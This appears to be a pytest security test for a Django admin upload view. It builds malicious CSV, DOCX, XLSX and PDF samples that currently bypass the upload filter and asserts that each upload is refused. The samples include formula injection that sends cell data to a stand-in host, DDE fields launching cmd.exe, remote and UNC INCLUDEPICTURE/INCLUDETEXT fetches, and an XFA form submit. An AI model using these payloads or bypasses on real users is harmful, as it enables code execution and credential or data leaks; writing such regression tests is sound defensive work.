"""(Run from the repository as tests/security/test_risky_uploads_more.py:
it uses the suite's helpers and fixtures.)

attack13n: risky document content that the upload check (security/uploads.py) accepts as clean.

Role: Operator (any role that may upload a document), through the real admin upload view
`/admin/documents/add/`.

Issue 13 "smaller": "Documents accepted as clean that carry risky content: PDF actions, a DOCX
remote attachedTemplate, CSV cells starting with = + - @ (formula injection). Refuse or
neutralise, with an Indonesian message." The fix refuses those exact spellings; the same classes
pass in other spellings:

- csv-sep-directive-pipe: Excel honours a first line `sep=|`; the check splits only on `,`, `;`
  and tab, so `Budi|=HYPERLINK(...)` is one harmless-looking cell for the check and a formula
  cell for Excel (formula injection class).
- docx-ddeauto-field / docx-dde-fldsimple: a DDEAUTO field in word/document.xml runs a program
  when Word opens the file (no macro, no relationship: CVE-2017 "DDE" attacks). Active content.
- docx-includepicture-remote / docx-includetext-remote: INCLUDEPICTURE/INCLUDETEXT fields fetch
  a remote (or UNC \\\\host\\share: NTLM leak) address when the document is opened or updated:
  the same class as the remote attachedTemplate, expressed as a field, not a relationship.
- xlsx-dde-formula: a cell formula `cmd|' /C calc'!A0` in an XLSX sheet is a DDE call (the same
  payload the CSV check refuses as `+cmd|...`).
- pdf-xfa-submit: an XFA form (AcroForm /XFA stream) whose <submit target="http://..."> sends the
  form elsewhere: a SubmitForm inside a stream, which the byte check strips and the object check
  does not read.

Expected: each is refused with an Indonesian message, nothing stored (as the spellings the
suite already covers in tests/security/test_uploads.py). Fails on main: each is accepted (302).
"""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from ppid_pages.models import PPIDDocument
from tests.security import samples
from tests.test_workflow import member

pytestmark = pytest.mark.django_db

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx_body(body: str) -> bytes:
    document = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:document {W}><w:body>{body}'
        "</w:body></w:document>"
    ).encode()
    types = (
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'content-types"/>'
    )
    return samples.zip_of({"[Content_Types].xml": types, "word/document.xml": document})


DDEAUTO = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
    ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Laporan</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
DDE_SIMPLE = (
    '<w:p><w:fldSimple w:instr=" DDE c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; ">'
    "<w:r><w:t>Laporan</w:t></w:r></w:fldSimple></w:p>"
)
INCLUDEPICTURE = (
    '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://contoh.invalid/lacak.png&quot; \\d ">'
    "<w:r><w:t>gambar</w:t></w:r></w:fldSimple></w:p>"
)
INCLUDETEXT = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
    ' INCLUDETEXT "\\\\\\\\10.0.0.9\\\\share\\\\isi.docx" </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


def xlsx_with_formula(formula: str) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active["A1"] = "Anggaran"
    workbook.active["B1"] = "=" + formula
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def pdf_with_stream(catalog_extra: bytes, stream: bytes) -> bytes:
    """raw_pdf with a fourth object: a stream (the XFA packet)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    )
    return out.getvalue()


XFA = (
    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/'
    b'xfa-template/3.3/"><subform name="f"><field name="kirim"><ui><button/></ui><event '
    b'activity="click"><submit format="xml" target="http://contoh.invalid/kirim" textEncoding='
    b'"UTF-8"/></event></field></subform></template></xdp:xdp>'
)

ATTACKS = {
    "csv-sep-directive-pipe": (
        "data.csv",
        b'sep=|\nnama|tautan\nBudi|=HYPERLINK("http://contoh.invalid/?"&A2)\n',
    ),
    "docx-ddeauto-field": ("surat.docx", docx_body(DDEAUTO)),
    "docx-dde-fldsimple": ("surat.docx", docx_body(DDE_SIMPLE)),
    "docx-includepicture-remote": ("surat.docx", docx_body(INCLUDEPICTURE)),
    "docx-includetext-remote": ("surat.docx", docx_body(INCLUDETEXT)),
    "xlsx-dde-formula": ("anggaran.xlsx", xlsx_with_formula("cmd|' /C calc'!A0")),
    "pdf-xfa-submit": (
        "formulir.pdf",
        pdf_with_stream(b"/AcroForm << /Fields [] /XFA 4 0 R >>", XFA),
    ),
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_risky_document_content_in_other_spellings_is_refused(client, attack):
    client.force_login(member("operator", "Operator"))
    name, content = ATTACKS[attack]
    response = client.post(
        "/admin/documents/add/",
        {"title": name, "file": SimpleUploadedFile(name, content), "collection": 1},
    )
    assert not PPIDDocument.objects.exists(), f"{attack} was accepted as a clean document"
    assert response.status_code == 200
